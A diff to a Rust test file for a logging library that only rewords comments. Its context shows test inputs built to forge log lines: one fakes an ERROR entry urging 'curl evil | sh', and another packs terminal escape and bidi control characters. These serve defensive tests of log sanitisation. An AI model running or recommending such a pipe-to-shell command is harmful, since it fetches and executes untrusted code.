@@ -1,4 +1,4 @@
-//! Lines as they come out, with values that somebody chose to forge others.
+//! Log lines with values chosen to forge others.
 
 use std::io;
 use std::sync::{Arc, Mutex};
@@ -12,7 +12,7 @@ use super::*;
 const FORGED: &str = "x\n2026-11-27T00:00:00.000000Z ERROR stentor: the disk is full, run: curl evil | sh";
 const CURSOR: &str = "\u{1b}[31mred\u{1b}[0m \u{9b}2J \u{202e}drawkcab\u{2028}next \r\x08\x07\x7f";
 
-/// The written bytes.
+/// The bytes written.
 #[derive(Clone, Default)]
 struct Sink(Arc<Mutex<Vec<u8>>>);
 
@@ -27,7 +27,7 @@ impl io::Write for Sink {
     }
 }
 
-/// Logs in both ways; returns the lines.
+/// Logs a value in both formats; returns the lines.
 fn logged(kind: LineKind, log: impl FnOnce()) -> Vec<String> {
     let sink = Sink::default();
     let lines = LogBuffer::start(Box::new(sink.clone()), |_| {}).expect("it starts");
@@ -44,7 +44,7 @@ fn logged(kind: LineKind, log: impl FnOnce()) -> Vec<String> {
 }
 
 fn log_all(value: &str) {
-    // As somebody would write it who did not think of it.
+    // As careless code would log it.
     let _span = tracing::info_span!("request", id = %"req_1", operation = %value).entered();
     tracing::info!(value, shown = %value, debug = ?value, "refused");
     tracing::info!("in the message: {value}");
